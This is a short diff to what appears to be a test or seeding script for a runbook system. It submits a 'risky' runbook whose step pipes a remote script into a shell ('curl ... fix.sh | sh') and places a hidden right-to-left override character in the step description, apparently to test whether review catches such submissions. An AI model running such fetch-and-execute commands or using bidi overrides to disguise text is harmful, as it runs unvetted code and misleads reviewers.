@@ -51,7 +51,8 @@ async function populate() {
 		{ incident_types: ["disk_full"] },
 	);
 	const risky = runbook("RB-LNX-FETCH-001");
-	risky.steps[1].command = "curl -s https://example.org/fix.sh | sh \u202e";
+	risky.steps[1].command = "curl -s https://example.org/fix.sh | sh";
+	risky.steps[1].description = "fixes \u202eit";
 	await does(bob, "learn_submit", { content: risky, reason: "quick fix", priority: "low" });
 	for (const runbookId of ["RB-LNX-MAIL-001", "RB-LNX-DNS-001"]) {
 		const draft = await stage.draft(runbookId);
